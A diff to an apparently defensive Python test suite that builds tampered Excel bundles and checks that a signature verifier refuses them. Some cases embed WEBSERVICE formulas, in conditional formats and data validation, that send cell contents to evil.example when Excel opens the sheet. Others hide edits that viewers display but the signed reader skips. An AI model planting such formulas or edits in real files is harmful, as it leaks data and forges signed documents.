@@ -288,8 +288,6 @@ def bundle_cases(base: bytes, tmp: Path) -> dict[str, tuple[bytes, Case]]:
          edit_part(base, std_part, lambda b: b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<!-- x -->'
                    + b.replace(b"</row>", b"</row>\n  ")), "valid",
          "an XML declaration, a comment and whitespace between rows of a data sheet")
-    case("valid-latin1-declared-sheet", edit_part(base, std_part, lambda b: K.xml_declared(b, "ISO-8859-1")), "valid",
-         "a data sheet re-encoded as ISO-8859-1 (Chinese as character references): the same values")
     case("valid-numbers-respelled",
          edit_sheet(base, std, lambda b: re.sub(rb"<v>([0-9]+)</v>", rb"<v>\1.0E0</v>", b)), "valid",
          "integers written as 45191.0E0: the same numbers")
@@ -418,17 +416,21 @@ def bundle_cases(base: bytes, tmp: Path) -> dict[str, tuple[bytes, Case]]:
     case("utf16-sheet-without-bom",
          edit_part(base, std_part, lambda b: K.xml_declared(b, "UTF-16-LE").removeprefix(b"\xff\xfe")),
          "xlsx.corrupt", "a data sheet in UTF-16LE without a byte order mark")
+    # a bundle is UTF-8 only (docs/bundle-format.md): any other declared encoding is refused
     case("utf16-declared-utf8-bytes",
          edit_part(base, std_part, lambda b: b'<?xml version="1.0" encoding="UTF-16"?>' + b),
-         "bundle.unreadable", "UTF-16 declared, UTF-8 bytes")
+         "xlsx.not_utf8", "UTF-16 declared, UTF-8 bytes")
     case("unknown-encoding-declared",
          edit_part(base, std_part, lambda b: b'<?xml version="1.0" encoding="x-klingon"?>' + b),
-         "bundle.unreadable", "an encoding nobody knows")
-    case("gb18030-sheet", edit_part(base, std_part, lambda b: K.xml_declared(b, "GB18030")), "bundle.unreadable",
+         "xlsx.not_utf8", "an encoding nobody knows")
+    case("gb18030-sheet", edit_part(base, std_part, lambda b: K.xml_declared(b, "GB18030")), "xlsx.not_utf8",
          "a data sheet in GB18030 (expat reads only UTF-8/16, ISO-8859-1 and ASCII)")
     case("ebcdic-hidden-doctype",
          edit_part(base, std_part, lambda b: K.xml_declared(K.use_entity(K.with_doctype(b)), "cp037")),
-         "bundle.unreadable", "a DOCTYPE hidden from the byte scan by an EBCDIC encoding")
+         "xlsx.not_utf8", "a DOCTYPE hidden from the byte scan by an EBCDIC encoding (declared in ASCII)")
+    case("latin1-declared-sheet", edit_part(base, std_part, lambda b: K.xml_declared(b, "ISO-8859-1")),
+         "xlsx.not_utf8", "a data sheet re-encoded as ISO-8859-1 (Chinese as character references): the same "
+         "values, which expat reads, but not UTF-8")
     case("broken-xml-in-sheet", edit_part(base, std_part, lambda b: b[: len(b) // 2]), "bundle.unreadable",
          "a data sheet cut in the middle of its XML")
 
@@ -468,12 +470,26 @@ def bundle_cases(base: bytes, tmp: Path) -> dict[str, tuple[bytes, Case]]:
                                                    b'<cfRule type="expression" priority="1"><formula>WEBSERVICE('
                                                    b'"http://evil.example/?"&amp;B2)</formula></cfRule>'
                                                    b"</conditionalFormatting>")),
-         "bundle.formula",
+         "xlsx.conditional_format",
          "a conditional format whose formula sends a cell to a web server when Excel shows the sheet; not in "
-         "any cell, so the digests and the signature still hold (anyone on the way can add it)",
-         known_bug="the reader ignores conditional formats (docs/bundle-format.md: 'ignored: they change no value') "
-                   "and data validation, but their formulas run in Excel: the bundle verifies, and onward "
-                   "distribution passes the original bytes on")
+         "any cell, so the digests and the signature still hold (anyone on the way can add it)")
+    case("conditional-format-x14-extension",
+         edit_sheet(base, std, lambda b: b.replace(b"</worksheet>", b'<extLst><ext uri="{78C0D931-6437-407d-A8EE-'
+                                                   b'F0AAD7539E65}" xmlns:x14="http://schemas.microsoft.com/office/'
+                                                   b'spreadsheetml/2009/9/main"><x14:conditionalFormattings>'
+                                                   b'<x14:conditionalFormatting xmlns:xm="http://schemas.microsoft.'
+                                                   b'com/office/excel/2006/main"><x14:cfRule type="expression" '
+                                                   b'priority="1" id="{00000000-0000-0000-0000-000000000001}">'
+                                                   b'<xm:f>WEBSERVICE("http://evil.example/")</xm:f></x14:cfRule>'
+                                                   b"<xm:sqref>C2</xm:sqref></x14:conditionalFormatting>"
+                                                   b"</x14:conditionalFormattings></ext></extLst></worksheet>")),
+         "xlsx.conditional_format", "the same conditional format as Excel 2010 writes it, in the sheet's extLst")
+    case("data-validation-formula",
+         edit_sheet(base, std, lambda b: b.replace(b"</sheetData>", b'</sheetData><dataValidations count="1">'
+                                                   b'<dataValidation type="custom" allowBlank="1" sqref="C2">'
+                                                   b'<formula1>ISNUMBER(WEBSERVICE("http://evil.example/?"&amp;B2))'
+                                                   b"</formula1></dataValidation></dataValidations>")),
+         "xlsx.data_validation", "a data validation whose formula Excel runs, outside every cell")
     case("hidden-data-sheet", K.zip_bytes(K.set_sheet_state(parts, std, "hidden")), "bundle.hidden_sheet",
          "the standards sheet hidden")
     case("very-hidden-cover", K.zip_bytes(K.set_sheet_state(parts, cover, "veryHidden")), "bundle.hidden_sheet",
@@ -511,11 +527,17 @@ def bundle_cases(base: bytes, tmp: Path) -> dict[str, tuple[bytes, Case]]:
     case("extra-cell-out-of-order",
          edit_part(base, std_part, lambda b: b[: first.end()] + K.inline_cell("AZ2", "证书已吊销，请致电 000 REVOKED")
                    + b[first.end():]),
-         "bundle.extra_cell",
-         "a note in AZ2 written before B2 (cells out of order): LibreOffice shows it, the reader drops it",
-         known_bug="the reader places a row's cells up to the column of the row's LAST cell (openpyxl's "
-                   "_get_row, mirrored by sheetxml): a cell written earlier with a higher column is dropped "
-                   "unseen, so anyone can add visible text to a signed bundle and it still verifies")
+         "bundle.cell_order",
+         "a note in AZ2 written before B2 (cells out of order): LibreOffice shows it, openpyxl's reader drops it")
+    case("cell-naming-another-row",
+         edit_part(base, std_part, lambda b: re.sub(rb'<c r="C2"', b'<c r="C9"', b, count=1)), "bundle.cell_order",
+         "the standard's name written inside row 2 as C9: LibreOffice shows it in row 9, openpyxl reads it in "
+         "row 2 (the signed place)")
+    case("row-written-twice",
+         edit_part(base, std_part, lambda b: b.replace(b"</sheetData>", re.search(
+             rb'<row r="2".*?</row>', b, re.DOTALL).group(0).replace(  # type: ignore[union-attr]
+             b"<is><t>", "<is><t>篡改 ".encode(), 1) + b"</sheetData>")), "bundle.row_order",
+         "row 2 written a second time at the end, edited: openpyxl's reader skips it, LibreOffice shows it")
     case("value-outside-columns", edit_cell(base, std, "AZ2", K.inline_cell("AZ2", "note")), "bundle.extra_cell",
          "a note typed far right of the sheet's columns")
     case("changed-header", edit_cell(base, std, "C1", K.inline_cell("C1", "名称 Name")), "bundle.bad_header",
@@ -524,12 +546,9 @@ def bundle_cases(base: bytes, tmp: Path) -> dict[str, tuple[bytes, Case]]:
          "the signature sheet holding the key 'format' twice")
     nested = "[" * 30_000  # within one cell (32,767), far beyond the parser's recursion limit
     case("nested-json-manifest", K.replace_meta(base, {"manifest": nested}), "bundle.malformed_manifest",
-         "a manifest of 30,000 nested JSON arrays (no signature needed to get this far)",
-         known_bug="bundle.read_bundle: json.loads raises RecursionError, which escapes verify_bundle "
-                   "(the CLI says 'internal error')")
+         "a manifest of 30,000 nested JSON arrays (no signature needed to get this far)")
     case("nested-json-statements", K.replace_meta(base, {"statements": nested}), "bundle.malformed_manifest",
-         "key statements of 30,000 nested JSON arrays",
-         known_bug="bundle._parse_statements: json.loads raises RecursionError, which escapes verify_bundle")
+         "key statements of 30,000 nested JSON arrays")
 
     # -- signed by the issuer (a legitimate but hostile or careless issuer)
     def signed(data: bytes) -> bytes:
@@ -554,16 +573,13 @@ def bundle_cases(base: bytes, tmp: Path) -> dict[str, tuple[bytes, Case]]:
     ref = f"{K.column_letter(position)}2"
     case("signed-integer-beyond-int64", signed(edit_part(base, ins_part, lambda b: K.set_cell(
         b, ref, K.number_cell(ref, str(10**20))))), "bundle.bad_value",
-        "an instrument position of 10^20, signed: verifies, then the database cannot store it",
-        known_bug="merge.value_problem does not check integer ranges: verify says valid and import raises "
-                  "OverflowError (SQLite, beyond 2^63) / DataError (PostgreSQL, beyond 2^31 already: a position "
-                  "of 3,000,000,000 fails there), not a DomainError")
+        "an instrument position of 10^20, signed: the database cannot store it (SQLite holds 64 bits, "
+        "PostgreSQL's INTEGER 32)")
     status = schema.STANDARDS.keys.index("status") + 1
     status_ref = f"{K.column_letter(status)}2"
     case("signed-empty-required-column", signed(edit_cell(base, std, status_ref, b"")), "bundle.bad_value",
-         "a standard without a status, signed (a NOT NULL column that has a default)",
-         known_bug="merge.value_problem only checks NOT NULL columns without a default, but the merge inserts "
-                   "None explicitly: verify says valid, import raises IntegrityError (not a DomainError)")
+         "a standard without a status, signed (a NOT NULL column that has a default, which the merge's "
+         "explicit None would not get)")
     return cases
 
 
@@ -652,9 +668,7 @@ def ledger_cases(tmp: Path) -> dict[str, tuple[bytes, Case]]:
          "the records on a hidden sheet, a visible sheet with a note: hidden sheets are never read")
     dup = add_sheet(base, LEDGER_SHEET, K.set_cell(parts[sheet], "C2", K.inline_cell("C2", "篡改 edited")))
     case("duplicate-sheet-name", dup, "ledger.duplicate_sheet",
-         "the sheet listed twice under the same name, the second copy edited (Excel shows the first)",
-         known_bug="ledger.reader: the sheet list keeps both entries but the part map keeps the last one, so "
-                   "the import reads the second copy while Excel and WPS show the first; nothing refuses it")
+         "the sheet listed twice under the same name, the second copy edited (Excel shows the first)")
     case("shared-string-index-out-of-range", cell("C3", K.typed_cell("C3", "s", "99999")), "ledger.unreadable",
          "a cell pointing at shared string 99,999 of none")
     case("header-only", base_ledger(records=0), "ledger.empty", "headers and no records")
